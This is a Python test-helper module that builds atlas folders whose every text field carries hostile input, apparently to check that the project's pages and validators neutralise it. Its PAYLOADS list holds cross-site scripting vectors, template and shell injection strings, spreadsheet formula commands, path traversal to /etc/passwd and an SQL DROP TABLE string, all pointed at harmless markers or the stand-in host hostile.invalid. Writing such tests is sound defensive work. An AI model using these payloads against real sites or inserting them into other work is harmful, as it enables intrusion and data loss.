"""Hostile words, and an atlas that holds each of them in every field that takes words.

    folder = hostile_atlas(tmp_path)            # one article, topic, name and two places a payload
    said = spoken(3, PAYLOADS["…"])             # what each field of the fourth article holds
    folder = hostile_atlas(tmp_path, [BIG])     # any payloads

Each field gets the payload and a tag after it, so that a page shows which field it took its words
from. A payload that runs writes ``WINDOW`` into the window or makes the file ``MADE``; one that is
fetched asks for ``hostile.invalid`` or a path with ``hostile-fetched`` in it.
"""

import json
import shutil
import tempfile
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from random import Random

from events.quoting import toml_list, toml_string
from events.source import digest
from tests import making
from tests.making import almaty, collection, feature, make_atlas, zhetysu

MADE = Path(tempfile.gettempdir()) / "passage-atlas-was-run"
"""No test may ever find this file."""
WINDOW = "hostileRan"

JS = f"window.{WINDOW}=1,top.{WINDOW}=1,alert(1)"
PY = f"__import__('pathlib').Path('{MADE}').touch()"
SH = f"touch {MADE}"
FAR = "https://hostile.invalid"

PAYLOADS = {
    # markup that runs
    "script": f"<script>{JS}</script>",
    "script from afar": f'<script src="{FAR}/x.js"></script>',
    "script module": f'<script type="module">{JS}</script>',
    "broken-out script": f"</script><script>{JS}</script>",
    "broken-out style": f"</style><script>{JS}</script>",
    "broken-out title": f"</title></textarea></noscript><script>{JS}</script>",
    "split script": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "image handler": f"<img src=x onerror={JS}>",
    "image handler, quoted out": f"\"'><img src=x onerror={JS}>",
    "image from here": '<img src="/hostile-fetched.png">',
    "image set": f'<img srcset="{FAR}/a.png 1x">',
    "focus handler": f'<input autofocus onfocus="{JS}">',
    "toggle handler": f'<details open ontoggle="{JS}">x</details>',
    "animation handler": f"<b style=animation-name:x onanimationstart={JS}>x</b>",
    "video handler": f"<video><source onerror={JS}></video>",
    "body handler": f"<body onload={JS} onpageshow={JS}>",
    "svg handler": f"<svg onload={JS}>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{JS} /><text>x</text></a></svg>",
    "svg foreign": f"<svg><foreignObject><iframe srcdoc='<script>{JS}</script>'></iframe></foreignObject>",
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}"></style></table></mtext></math>',
    "iframe": f"<iframe srcdoc='<script>parent.{WINDOW}=1</script>'></iframe>",
    "iframe address": f'<iframe src="javascript:{JS}"></iframe>',
    "object": f'<object data="{FAR}/x.swf"></object><embed src="{FAR}/y">',
    "base": f'<base href="{FAR}/">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={FAR}/">',
    "link": f'<link rel="stylesheet" href="{FAR}/x.css">',
    "form": f'<form action="{FAR}/"><button autofocus>x</button></form>',
    "template shadow": f'<div><template shadowrootmode="open"><img src=x onerror="{JS}"></template></div>',
    "unclosed comment": "<!-- nothing after this may be swallowed",
    "unclosed tag": '<a href="',
    "cdata": f"<![CDATA[<script>{JS}</script>]]>",
    # entities and encodings
    "entities": "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &nbsp;&zwnj;",
    "entity handler": "&#60;img src=x onerror=alert&#40;1&#41;&#62;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # templates, of the server and of scripts
    "template literal": f"${{{JS}}}",
    "template literal, broken out": f"`+({JS})+`",
    "jinja": f"{{{{ {PY} }}}}",
    "jinja block": f"{{% set x = {PY} %}} 50 {{% of the budget",
    "jinja comment": "{# nothing to see",
    "python format": "{0.__class__.__mro__} {__import__} %(x)s %s %n",
    "f-string": f"{{{PY}}}",
    "shell": f"$({SH}) `{SH}`; {SH} | {SH}",
    "backslashes": "C:\\new\\table\\u0041 \\x3cb\\x3e \\",
    "quotes": "\"'`“”‘’«»\\\"\\'",
    "json break": '"}]};</script>{"a":["',
    "toml break": '"""\n[[event]]\nid = "x"\n',
    "script string break": f"');{JS}//",
    # what a page may take for its own notation
    "latex": "$27.6 billion … $623 million, $$x^2$$ \\(y\\)",
    "markdown image": f"![x]({FAR}/x.png)",
    "markdown link": f"[here](javascript:{JS}) <{FAR}/>",
    "markdown block": "# heading\n\n> quote\n\n```html\n<b>\n```\n\n| a | b |\n|---|---|",
    "markdown icons": ":material/home: :smile: :red[x] :rainbow-background[y] ~~z~~ **b**",
    "javascript address": f"javascript:{JS}",
    "javascript address, disguised": f" \tJaVa\nScRiPt:{JS}",
    "data address": f"data:text/html,<script>parent.{WINDOW}=1</script>",
    "protocol-relative": "//hostile.invalid/x",
    "css": f"x{{background:url({FAR}/x.png)}} </style> expression({JS}) @import '{FAR}';",
    "css attribute": f"red;background:url({FAR}/x.png)",
    # spreadsheets
    "formula": f'=HYPERLINK("{FAR}?"&A1,"x")',
    "formula command": f"=cmd|'/c {SH}'!A1",
    "formula plus": "+1+1",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)",
    "formula tab": "\t=1+1",
    "formula full width": "＝1+1",
    "cells": 'a,"b";c\td | e\r\nf',
    # letters that are not what they seem
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "bidi left open": "\u202e\u202d\u2067\u2068 reversed to the end of the page",
    "zero width": "z\u200be\u200cr\u200do\u2060\ufeff w",
    "nul": "be\x00fore",
    "controls": "bell\x07 escape\x1b[31m delete\x7f next\x85 backspace\x08",
    "line separators": "a\u2028b\u2029c\u000bd\u000ce",
    "lone marks": "\u0301\u0488\u20dd x",
    "a tower of marks": "Z" + "\u0300\u0489\u035b\u0327" * 12,
    "right to left": "قازاقستان עברית 123 (נוסח)",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇰🇿 👍🏽 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "noncharacters": "\ufffe\uffff\U0001fffe\U0010ffff \ue000",
    "replacement": "\ufffd \ufffc",
    "folds long": "ﷺ" * 8,
    "folds to other": "ſſ K Å ﬁ İ ß ẞ ǰ ΐ",
    "long word": "W" * 180,
    "spaces": "a\u00a0\u2007\u202f\u3000 b" + " " * 12 + "c",
    # names that objects have already
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "own property": "hasOwnProperty",
    "undefined": "undefined",
    "null": "null",
    "true": "true",
    "not a number": "NaN",
    "an object": "[object Object]",
    # ways out of a folder, a query or a table
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con\\aux",
    "file address": "file:///etc/passwd",
    "query": "?show=about&place=almaty&q=%00#x",
    "sql": "' OR 1=1; DROP TABLE records; --",
    "sizes": "9" * 120,
}  # fmt: skip
"""What hostile or careless authors write, by what it tries."""

BIG = "m" * 2**20
"""A megabyte."""

Words = Callable[[str], str]
"""What a field holds, by the name of the field."""

FIELDS = (
    "label file headline publisher author date absent absent-key editors-note address"
    " topic definition name name-note name-inferred naming"
    " place toponym lang citation since note-of-place coordinates-from ccode printed"
    " unplaced-place why-unplaced named-nowhere"
    " event-title actor when-words reason event-note exact prefix suffix second"
    " investment-title unit qualifier why party status investment-note paid"
    " figure-title figure-qualifier figure-note counted sum-title silent why-silent"
    " question question-why says scope relation settles origin origin-reason sum-reason means correction"
    " change-kind change-id change-title change-source change-field change-old change-new change-exact"
    " change-prefix change-suffix change-voice change-supports change-why change-reason change-date"
).split()
"""The fields that take any words, beside the title, summary and contact of the atlas."""

LONGEST_NAME = 255
"""Bytes of a file's name."""

SHORT = {"prefix": 22, "suffix": 22, "says": 80, "scope": 80}
"""How much of a payload a field holds whose words are short."""

EVENT_YEAR, SILENT_YEAR, SUM_YEAR = 2001, 2002, 2003
"""Of each article: when its event and its sum were, and a year between of which it tells nothing."""


def spoken(payload: str) -> Words:
    """The words of each field: the payload, and after it the field's name."""

    def words(field: str) -> str:
        if field in SHORT:
            return f"{payload[: SHORT[field]]}·{field[:3]}"
        if field == "file":
            return payload.translate({ord(c): None for c in "/\\\0"})[:60] + "·file.txt"
        if field == "when-words":
            return payload.strip() or "·"
        return f"https://example.org/{payload}·address" if field == "address" else f"{payload}·{field}"

    return words


# ---- an article ------------------------------------------------------------------------
def text_of(words: Words) -> str:
    """A full text in which every quoted field stands."""
    quoted = "headline publisher author date naming printed named-nowhere second paid counted silent".split()
    lines = [words(field) for field in quoted]
    lines.append(words("prefix") + words("exact") + words("suffix"))
    lines.append(f"On {words('when-words')}·when it was.")
    return "¶\n".join(lines) + "¶\n"


def located(text: str, exact: str, prefix: str = "", suffix: str = "") -> str:
    """The keys of located words; they have to stand in the text."""
    start = text.index(prefix + exact + suffix) + len(prefix)
    sides = f"prefix = {toml_string(prefix)}, suffix = {toml_string(suffix)}"
    return f"exact = {toml_string(exact)}, {sides}, start = {start}, end = {start + len(exact)}"


def article_of(n: int, words: Words, slug: str) -> tuple[str, str]:
    """The file of an article in ``events/records`` and its full text."""
    text = text_of(words)

    def at(field: str, sides: Sequence[str] = ()) -> str:
        return located(text, words(field), *(words(side) for side in sides))

    def passage(located_words: str, *supports: str) -> str:
        return f'{{ {located_words}, voice = "author", supports = {toml_list(supports)} }}'

    s = {field: toml_string(words(field)) for field in FIELDS}
    dated = located(text, f"{words('when-words')}·when")
    return (
        f"""\
[source]
id = "{slug}"
label = {s["label"]}
file = {s["file"]}
sha256 = "{digest(text.encode())}"
length = {len(text)}
language = "en"
title = {{ {at("headline")} }}
publisher = {{ {at("publisher")} }}
authors = [{{ {at("author")} }}]
published = {{ edtf = "2019", {at("date")} }}
absent = {{ {s["absent-key"]} = {s["absent"]} }}
note = {{ text = {s["editors-note"]}, url = {s["address"]} }}
part = [{{ kind = "title", start = 0, end = {len(words("headline"))} }}]

[mentions]
p-{n} = [{{ reading = "where", {at("printed")} }}]
u-{n} = [{{ reading = "base", {at("named-nowhere")} }}]

[names]
n-{n} = [{{ {at("naming")} }}]

[[event]]
id = "{slug}-event"
type = "statement"
title = {s["event-title"]}
when_words = {s["when-words"]}
inferred = {{ when = "{EVENT_YEAR}", reason = {s["reason"]} }}
topics = ["t-{n}"]
actors = [{s["actor"]}]
places = [{{ id = "p-{n}", role = "where" }}, {{ id = "u-{n}", role = "about" }}]
note = {s["event-note"]}
passage = [
  {passage(at("exact", ("prefix", "suffix")), "what", "where", "actors", "inferred")},
  {passage(at("second"), "what")},
  {passage(dated, "when")},
]

[[investment]]
id = "{slug}-investment"
type = "sum"
title = {s["investment-title"]}
topics = ["t-{n}"]
places = [{{ id = "p-{n}", role = "about" }}]
amount = {{ min = {n + 1}, unit = {s["unit"]}, qualifier = {s["qualifier"]}, currency_inferred = {s["why"]} }}
parties = [{s["party"]}]
status = {s["status"]}
note = {s["investment-note"]}
passage = [{passage(at("paid"), "what", "where", "amount", "parties", "status")}]

[[investment]]
id = "{slug}-sum"
type = "sum"
title = {s["sum-title"]}
when = "{SUM_YEAR}"
topics = ["t-{n}"]
amount = {{ min = {n + 1}, currency = "USD" }}
passage = [{passage(at("paid"), "what", "when", "amount")}]

[[figure]]
id = "{slug}-figure"
type = "people"
title = {s["figure-title"]}
topics = ["t-{n}"]
places = [{{ id = "p-{n}", role = "about" }}]
amount = {{ min = {n + 2}, qualifier = {s["figure-qualifier"]}, unit = {s["unit"]} }}
note = {s["figure-note"]}
passage = [{passage(at("counted"), "what", "where", "amount")}]
""",
        text,
    )


# ---- an atlas --------------------------------------------------------------------------
def hostile_atlas(
    tmp_path: Path,
    payloads: Iterable[str] = tuple(PAYLOADS.values()),
    *,
    say: Callable[[str], Words] = spoken,
    title: str = "One bridge",
    summary: str = "What articles tell.",
    contact: str = "someone@example.org",
) -> Path:
    """An atlas folder with the small atlas of ``making`` and, for each payload, all that may hold it."""
    given = [say(payload) for payload in payloads]
    more: dict[str, str | bytes] = {f"events/{name}": piece for name, piece in joining(given).items()}
    more["events/silent.toml"] = f"{making.SILENT}\n{more['events/silent.toml']}"
    more[CHANGES] = json.dumps(LISTED | {"changes": changes_of(given)}, ensure_ascii=False)
    for n, words in enumerate(given):
        article, text = article_of(n, words, slug_of(n))
        more[f"events/records/{n:03}.toml"] = article
        if len(words("file").encode()) < LONGEST_NAME:
            more[f"texts/{words('file')}"] = text
    about = {"title": title, "summary": summary, "contact": contact}
    return make_atlas(
        tmp_path,
        topics=topics_of(about, given),
        places=collection(
            almaty(), zhetysu(), *(p for n, words in enumerate(given) for p in places_of(n, words))
        ),
        more=more,
    )


def topics_of(about: dict[str, str], given: Sequence[Words]) -> str:
    """``events/topics.toml``: the atlas, the two topics of ``making`` and one a payload."""
    lines = ["[atlas]", *(f"{key} = {toml_string(value)}" for key, value in about.items())]
    found = ["\n".join(lines), making.TOPICS[making.TOPICS.index("[[topic]]") :]]
    return "\n\n".join([*found, *(topic_of(n, words) for n, words in enumerate(given))])


def topic_of(n: int, words: Words) -> str:
    topic, definition = toml_string(words("topic")), toml_string(words("definition"))
    return f'[[topic]]\nid = "t-{n}"\ntitle = {topic}\ndefinition = {definition}\n'


def name_of(n: int, words: Words) -> str:
    title, note, why = (toml_string(words(field)) for field in ("name", "name-note", "name-inferred"))
    return f'[[name]]\nid = "n-{n}"\ntitle = {title}\nkind = "person"\nnote = {note}\ninferred = {why}\n\n'


def joining(given: Sequence[Words]) -> dict[str, str]:
    """The files of ``events`` that join articles, by name: of each what one payload adds to it."""
    of_one = {
        "names.toml": name_of,
        "silent.toml": silence_of,
        "questions.toml": question_of,
        "origins.toml": origin_of,
        "sums.toml": sum_of,
        "corrections.toml": correction_of,
    }
    return {name: "\n".join(of(n, words) for n, words in enumerate(given)) for name, of in of_one.items()}


def silence_of(n: int, words: Words) -> str:
    exact = words("silent")
    start = text_of(words).index(exact)
    return f"""\
[[silent]]
source = "{slug_of(n)}"
exact = {toml_string(exact)}
start = {start}
end = {start + len(exact)}
reason = {toml_string(words("why-silent"))}
"""


def question_of(n: int, words: Words) -> str:
    """A question that all records of the article answer but its sum, two of them with a number."""
    s = {field: toml_string(words(field)) for field in FIELDS}
    event, *others = (f"{slug_of(n)}-{record}" for record in ("event", "investment", "figure"))
    answer, relation = (
        f"says = {s['says']}, scope = {s['scope']}", f'to = "{event}", reason = {s["relation"]}',
    )  # fmt: skip
    return f"""\
[[question]]
id = "q-{n}"
title = {s["question"]}
why = {s["question-why"]}
unit = {s["unit"]}
settles = {{ record = "{event}", why = {s["settles"]} }}
answer = [{", ".join(f'{{ record = "{record}", {answer} }}' for record in (event, *others))}]
relation = [{", ".join(f'{{ from = "{record}", kind = "contradicts", {relation} }}' for record in others)}]
"""


def origin_of(n: int, words: Words) -> str:
    title, reason = toml_string(words("origin")), toml_string(words("origin-reason"))
    rests = f'records = ["{slug_of(n)}-figure"]'
    return f'[[origin]]\nid = "o-{n}"\ntitle = {title}\nreason = {reason}\n{rests}\n'


def sum_of(n: int, words: Words) -> str:
    """A sum that counts, with two ways to read it."""
    reason, means = toml_string(words("sum-reason")), toml_string(words("means"))
    readings = ", ".join(f'{{ means = {means}, min = "{low}" }}' for low in (n + 1, n + 2))
    return f'[[sum]]\nrecord = "{slug_of(n)}-sum"\ncounts = true\nreason = {reason}\nreading = [{readings}]\n'


def correction_of(n: int, words: Words) -> str:
    what = f'date = "2026-11-22"\nrecord = "{slug_of(n)}-event"'
    return f"[[correction]]\n{what}\nreason = {toml_string(words('correction'))}\n"


CHANGES = "events/changes.json"
LISTED = {"old": "before", "new": "now", "date": "2026-11-22"}
"""What the list of changes says of itself."""


def bare_list(payload: str) -> dict:
    """A list of changes with nothing but a payload where another word may stand, and no tag after it."""
    quoted = {"exact": payload, "voice": payload, "start": 1, "end": 2, "supports": [payload]}
    differs = {"field": payload, "old": [payload, quoted], "new": [payload], "reason": payload}
    named = dict.fromkeys(("kind", "id", "title", "reason", "date"), payload)
    change = named | {"what": "changed", "sources": [payload], "differences": [differs]}
    other = change | {"kind": "record"}
    return dict.fromkeys(LISTED, payload) | {"changes": [change, other]}


def changes_of(given: Sequence[Words]) -> list[dict]:
    """For each payload a record that has changed, and a thing of no known kind that has come."""
    return [change for n, words in enumerate(given) for change in (changed(n, words), come(n, words))]


def changed(n: int, words: Words) -> dict:
    quoted = {key: words(f"change-{key}") for key in ("exact", "prefix", "suffix", "voice")}
    quoted |= {"start": 1, "end": 2, "supports": [words("change-supports")]}
    differs = {
        "field": words("change-field"),
        "old": [words("change-old"), quoted],
        "new": [words("change-new")],
        "reason": words("change-why"),
    }
    return {
        "kind": "record",
        "id": f"{slug_of(n)}-event",
        "what": "changed",
        "title": words("change-title"),
        "sources": [slug_of(n)],
        "differences": [differs],
        "reason": words("change-reason"),
        "date": words("change-date"),
    }


def come(n: int, words: Words) -> dict:
    about = {key: words(f"change-{key}") for key in ("kind", "id", "title")}
    differs = {"field": words("change-field"), "new": [words("change-new")]}
    sources = [slug_of(n), words("change-source")]
    return about | {"what": "added", "sources": sources, "differences": [differs]}


def places_of(n: int, words: Words, within: str = "zhetysu") -> list[dict]:
    """A place on the map, west of the innocent ones, and one that is nowhere."""
    geometry = {
        "type": "Point",
        "coordinates": [46 + 3.7 * (n % 14), 30 + 3.5 * (n // 14)],
        "citations": [{"label": words("coordinates-from")}],
    }
    toponym = {
        "toponym": words("toponym"),
        "lang": words("lang"),
        "citations": [{"label": words("citation")}],
        "when": {"timespans": [{"start": {"in": words("since")}}]},
    }
    placed = feature(
        f"p-{n}", words("place"), "city", geometry, ccodes=[words("ccode")], part_of=within,
        note=words("note-of-place"),
    )  # fmt: skip
    unplaced = feature(f"u-{n}", words("unplaced-place"), "camp", None, unplaced=words("why-unplaced"))
    return [placed | {"names": [toponym]}, unplaced]


# ---- what reading refuses --------------------------------------------------------------
ARTICLE, TOPICS, SILENT, PLACES = (
    "events/records/one.toml", "events/topics.toml", "events/silent.toml", "geodata/places.geojson",
)  # fmt: skip
IDS = {
    'id = "one"': (ARTICLE, "id"),
    'id = "one-bridge-opens"': (ARTICLE, "id"),
    'id = "money"': (TOPICS, "id"),
    '"id": "almaty"': (PLACES, "id"),
}
"""Ids: what of ``making`` is replaced, in which file, and the field that a fault names."""

VOCABULARIES = {
    'edtf = "2019-05-12"': (ARTICLE, "published.edtf"),
    'kind = "title"': (ARTICLE, "part[1].kind"),
    'reading = "base"': (ARTICLE, "reading"),
    'type = "decision"': (ARTICLE, "type"),
    'when = "2019-05-12"': (ARTICLE, "when"),
    'topics = ["roads"]': (ARTICLE, "topics"),
    'places = [{ id = "almaty"': (ARTICLE, "places"),
    'role = "where"': (ARTICLE, "places.role"),
    'voice = "official"': (ARTICLE, "passage[2].voice"),
    '"what", "when", "where", "actors"': (ARTICLE, "passage[1].supports"),
    'currency = "USD"': (ARTICLE, "amount.currency"),
    'as_of = "2018"': (ARTICLE, "amount.as_of"),
    "zhetysu = [": (ARTICLE, "mentions"),
    'source = "one"\nexact = "The river': (SILENT, "source"),
    '"kind": "region"': (PLACES, "properties.kind"),
    '"title": "Zhetysu"': (PLACES, "properties.part_of"),
    '"type": "Point"': (PLACES, "geometry.certainty"),
}
"""Fields that take words of a vocabulary, dates, or ids that there are."""


QUESTIONS, ORIGINS, SUMS, CORRECTIONS = (
    f"events/{name}.toml" for name in ("questions", "origins", "sums", "corrections")
)
JOINING = {
    QUESTIONS: """\
[[question]]
id = "cost"
title = "What did it cost?"
why = "One tells it."
unit = "people"
settles = { record = "one-bridge-cost", why = "It is printed." }
answer = [
  { record = "one-visitors", says = "300" },
  { record = "one-bridge-opens", says = "nothing" },
]
relation = [{ from = "one-visitors", kind = "contradicts", to = "one-bridge-opens", reason = "They differ." }]
""",
    ORIGINS: """\
[[origin]]
id = "mayor"
title = "The mayor"
reason = "She is quoted."
records = ["one-visitors"]
sources = ["one"]
""",
    SUMS: """\
[[sum]]
record = "one-bridge-cost"
part_of = "one-bridge-opens"
same_as = "one-visitors"
counts = true
reason = "Printed."
reading = [{ means = "a", min = "1", max = "2" }]
""",
    CORRECTIONS: """\
[[correction]]
date = "2026-11-22"
record = "one-visitors"
field = "title"
reason = "Read again."

[[correction]]
date = "2026-11-22"
removed = true
place = "gone"
reason = "Not printed."
""",
    CHANGES: json.dumps(
        LISTED | {"changes": [{"kind": "record", "id": "one-visitors", "what": "changed"}]}
    ),
}  # fmt: skip
"""The files that join records, each with whatever it may hold that is no free word, fitting or not."""

UNKNOWN, NO_SLUG, OTHER = "is not known", "is not a slug", "is not one of the words for this field"
JOINED = {
    (QUESTIONS, 'id = "cost"'): (NO_SLUG, "question[1] {}: id"),
    (QUESTIONS, 'unit = "people"'): ("contradicts another field", "question[1] cost: unit"),
    (QUESTIONS, 'settles = { record = "one-bridge-cost"'): (UNKNOWN, "question[1] cost: settles.record"),
    (QUESTIONS, '{ record = "one-visitors"'): (UNKNOWN, "question[1] cost: answer[1].record"),
    (QUESTIONS, 'from = "one-visitors"'): (
        "is no answer of this question", "question[1] cost: relation[1].from",
    ),
    (QUESTIONS, 'kind = "contradicts"'): (OTHER, "question[1] cost: relation[1].kind"),
    (QUESTIONS, 'to = "one-bridge-opens"'): (
        "is no answer of this question", "question[1] cost: relation[1].to",
    ),
    (ORIGINS, 'id = "mayor"'): (NO_SLUG, "origin[1] {}: id"),
    (ORIGINS, 'records = ["one-visitors"'): (UNKNOWN, "origin[1] mayor: records[1]"),
    (ORIGINS, 'sources = ["one"'): (UNKNOWN, "origin[1] mayor: sources[1]"),
    (SUMS, 'record = "one-bridge-cost"'): (UNKNOWN, "sum[1] {}: record"),
    (SUMS, 'part_of = "one-bridge-opens"'): (UNKNOWN, "sum[1] one-bridge-cost: part_of"),
    (SUMS, 'same_as = "one-visitors"'): (UNKNOWN, "sum[1] one-bridge-cost: same_as"),
    (SUMS, 'min = "1"'): ("does not fit", "sum[1] one-bridge-cost: reading[1].min"),
    (CORRECTIONS, 'date = "2026-11-22"'): ("is not an EDTF date", "correction[1] one-visitors: date"),
    (CORRECTIONS, 'record = "one-visitors"'): (UNKNOWN, "correction[1] {}: record"),
    (CORRECTIONS, 'field = "title"'): (OTHER, "correction[1] one-visitors: field"),
    (CORRECTIONS, 'place = "gone"'): (NO_SLUG, "correction[2] {}: place"),
    (CHANGES, '"what": "changed"'): ("does not fit", "changes[1] one-visitors: what"),
}  # fmt: skip
"""What of these is replaced, by its file: how it is refused, its record and its field ({}: the payload)."""


def with_joined(tmp_path: Path, payload: str, file: str, old: str) -> Path:
    """The small atlas of ``making`` and one file that joins records, with a payload in a field."""
    assert JOINING[file].count(old) > 0, old
    return make_atlas(tmp_path, more={file: JOINING[file].replace(old, hostile(old, payload), 1)})


def with_refused(tmp_path: Path, payload: str, fields: dict[str, tuple[str, str]]) -> Path:
    """The small atlas of ``making`` with a payload in fields that refuse it."""
    places = json.dumps(collection(almaty(), zhetysu()), ensure_ascii=False)
    pieces = {ARTICLE: making.ARTICLE, TOPICS: making.TOPICS, SILENT: making.SILENT, PLACES: places}
    for old, (file, _) in fields.items():
        assert old in pieces[file], old
        pieces[file] = pieces[file].replace(old, hostile(old, payload), 1)
    return make_atlas(
        tmp_path, topics=pieces[TOPICS], article=pieces[ARTICLE], silent=pieces[SILENT], places=pieces[PLACES]
    )


def hostile(old: str, payload: str) -> str:
    """A key and its value with the payload for the value."""
    if old.startswith('"type": "Point"'):
        return f'"type": "Point", "certainty": {json.dumps(payload)}'
    if old.startswith('"title": "Zhetysu"'):
        return f'"title": "Zhetysu", "part_of": {json.dumps(payload)}'
    if old.startswith('"') and ":" in old:
        return old[: old.index(":") + 1] + " " + json.dumps(payload)
    if old.startswith("zhetysu"):
        return f"{toml_string(payload)} = ["
    if old.startswith('"what"'):
        return f'"what", "when", "where", "actors", {toml_string(payload)}'
    head, _, tail = old.partition('"')
    return head + toml_string(payload) + tail.partition('"')[2]


# ---- everything at once ------------------------------------------------------------------
ROOT = Path(__file__).resolve().parent.parent
Quote = tuple[str, str, str]
"""Prefix, exact words, suffix."""


def mixed_atlas(tmp_path: Path, fuzzed: Sequence[Quote]) -> Path:
    """The shipped atlas with every hostile article beside its own, and one article of fuzzed quotes."""
    folder = tmp_path / "atlas"
    shutil.copytree(ROOT / "events", folder / "events", ignore=shutil.ignore_patterns("*.py*", "__pycache__"))
    given = [spoken(payload) for payload in PAYLOADS.values()]
    for n, words in enumerate(given):
        making.write(folder / f"events/records/hostile-{n:03}.toml", article_of(n, words, slug_of(n))[0])
    making.write(folder / "events/records/fuzzed.toml", fuzzed_article(fuzzed))
    topics = "\n".join(topic_of(n, words) for n, words in enumerate(given))
    for name, more in {"topics.toml": topics, **joining(given)}.items():
        path = folder / "events" / name
        making.write(path, (path.read_text("utf-8") if path.exists() else "") + "\n" + more)
    listed = json.loads((ROOT / CHANGES).read_text("utf-8"))
    listed["changes"] += changes_of(given)
    making.write(folder / CHANGES, json.dumps(listed, ensure_ascii=False))
    layer = json.loads((ROOT / "geodata" / "places.geojson").read_text("utf-8"))
    layer["features"] += [p for n, words in enumerate(given) for p in places_of(n, words, "kazakhstan")]
    making.write(folder / "geodata" / "places.geojson", json.dumps(layer, ensure_ascii=False))
    making.write_lock(folder)
    return folder


def slug_of(n: int) -> str:
    """The id of a hostile article: the first has a name that every object has already."""
    return f"a-{n}" if n else "constructor"


def fuzzed_article(quotes: Sequence[Quote]) -> str:
    """An article of nothing but quotes, 40 to a record."""
    text, passages = "", []
    for prefix, exact, suffix in quotes:
        start = len(text) + len(prefix)
        text += f"{prefix}{exact}{suffix}¶\n"
        keys = f"exact = {toml_string(exact)}, prefix = {toml_string(prefix)}, suffix = {toml_string(suffix)}"
        place = f"start = {start}, end = {start + len(exact)}"
        passages.append(f'  {{ {keys}, {place}, voice = "witness", supports = ["what"] }},')
    head = f"""\
[source]
id = "fuzzed"
label = "Fuzzed"
file = "fuzzed.txt"
sha256 = "{digest(text.encode())}"
length = {len(text)}
language = "en"
"""
    records = [
        f'[[event]]\nid = "fuzzed-{n}"\ntype = "statement"\ntitle = "Fuzzed"\ntopics = ["t-0"]\n'
        + "passage = [\n" + "\n".join(passages[n : n + 40]) + "\n]\n"
        for n in range(0, len(passages), 40)
    ]  # fmt: skip
    return "\n".join([head, *records])


ALPHABETS = (
    "abc  ABC  .,;:!?-–—…()[]{}<>&\"'`“”‘’«»‹›$*_~#|/\\=+%@^",
    "\u00a0\u2009\u202f\u2007\u3000\u00ad\u200b\u200c\u200d\u2060\ufeff\u2028\u2029\t\n\r\u0085\u000b",
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\u0300\u0301\u0308\u0489\u035b\u20dd\ufe0f\ufe0e",
    "ҚқҢңҒғҮүҰұӨөӘәІіЁёاقزستنۇئېÄßœﬁİıſ漢字仮名한글हिन्दीไทย",
    "👩‍👧🏳️🇰🇿👍🏽🏔𝒜𐍈\U0010fffd\ufffd\ue000",
    "\x00\x01\x07\x08\x0c\x1b\x7f",
)
PIECES = (
    "<b>",
    "</script>",
    "<!--",
    "${x}",
    "{{x}}",
    "{%",
    "$x$",
    "&amp;",
    "&#60;",
    "\\n",
    "%0A",
    "**",
    "![](",
    "\r\n",
)


def fuzzed_quotes(count: int, seed: int) -> list[Quote]:
    """Quotes of any letters, each with words in it, none longer than a quote may be."""
    random, found = Random(seed), []

    def run(longest: int) -> str:
        weights = [60, 8, 4, 4, 30, 8, 2]
        pieces = [
            random.choice(PIECES)
            if random.random() < 0.05
            else random.choice(random.choices(ALPHABETS, weights)[0])
            for _ in range(random.randint(0, longest))
        ]
        return "".join(pieces)[:longest]

    for n in range(count):
        exact = " ".join((run(random.choice([8, 40, 160])) + f"№{n}").split(" ")[-36:])
        found.append((" ".join(run(24).split(" ")[-9:]), exact, " ".join(run(24).split(" ")[-9:])))
    return found
